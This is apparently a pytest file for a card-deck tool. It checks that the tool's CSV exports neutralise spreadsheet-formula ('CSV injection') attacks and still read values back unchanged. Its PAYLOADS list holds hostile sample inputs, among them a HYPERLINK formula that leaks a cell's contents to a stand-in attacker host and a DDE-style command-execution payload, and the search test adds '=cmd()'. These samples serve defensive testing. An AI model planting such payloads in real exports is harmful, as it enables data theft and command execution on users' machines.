"""W17: no CSV totemdeck writes holds a live spreadsheet formula (OWASP "CSV injection"),
and what it writes still reads back the same: the deck export, the buy list, the search
and Totem tables, the collection ranking."""

from __future__ import annotations

import csv
import io
from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from totemdeck.api import deck_coverage, make_checker
from totemdeck.catalogue.names import name_key
from totemdeck.catalogue.read import Catalogue
from totemdeck.collection import Collection
from totemdeck.collection.owned import Coverage
from totemdeck.decklist import read_decklist
from totemdeck.decklist.csvdeck import parse_csv_deck
from totemdeck.export import export_deck
from totemdeck.files.cells import FORMULA_STARTS, read_cell, safe_cell
from totemdeck.report.collection import render_buy_list
from totemdeck.rules.engine import CheckedDeck, Checker

ROOT = Path(__file__).resolve().parent.parent
DECK = ROOT / "examples" / "charizard-ex.txt"
# What the attack wrote as the deck's name (issue 36, W17)
PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click for the decklist")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # a quote of its own before a formula: one more, so it reads back whole
)


@pytest.fixture(scope="module")
def checker(catalogue: Catalogue) -> Checker:
    return make_checker(catalogue)


@pytest.fixture(scope="module")
def checked(checker: Checker) -> CheckedDeck:
    return checker.check_deck(read_decklist(str(DECK)))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@given(st.text())
def test_a_cell_is_never_a_formula_and_reads_back(text: str) -> None:
    cell = safe_cell(text)
    assert not str(cell).startswith(FORMULA_STARTS)
    assert read_cell(str(cell)) == text


def test_numbers_pass_as_they_are() -> None:
    assert safe_cell(-3) == -3 and safe_cell(None) is None


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_deck_csv_neutralises_its_name_and_reads_it_back(
    checker: Checker, checked: CheckedDeck, name: str
) -> None:
    named = checker.check_deck(replace(checked.resolved.decklist, name=name))
    text = export_deck(named, "csv")
    assert _live(_cells(text)) == []
    back = parse_csv_deck(text, "export.csv")
    assert back.name == " ".join(name.split())  # the export writes the name on one line
    again = checker.check_deck(back)
    assert again.report.legal == named.report.legal
    # the same cards (a name-only line is exported as its newest print, as every export does)
    assert _names(again) == _names(named)


def _names(checked: CheckedDeck) -> Counter[tuple[str, int]]:
    return Counter((name_key(e.card.name), e.count) for e in checked.deck.entries)


def test_the_buy_list_csv_holds_no_formula(checker: Checker, checked: CheckedDeck) -> None:
    covered = deck_coverage(checked, Collection("none", "none", ()), checker)
    first = covered.lines[0]
    hostile = replace(first, card=replace(first.card, name=PAYLOADS[0]))
    text = render_buy_list(Coverage((hostile, *covered.lines[1:])), "csv")
    assert _live(_cells(text)) == []
    assert read_cell(_cells(text)[8]) == PAYLOADS[0]  # row 2, column "name"


def test_the_search_and_totem_tables_hold_no_formula(catalogue: Catalogue) -> None:
    from totemdeck.api.search import search_cards
    from totemdeck.report.search import render_csv
    from totemdeck.rules.format import load_format

    found = search_cards(catalogue, "name:charizard", limit=20)
    card = found.cards[0]
    found = replace(found, cards=[replace(card, name="=cmd()", id="-1+1"), *found.cards[1:]])
    text = render_csv(found, "en", load_format())
    assert _live(_cells(text)) == []
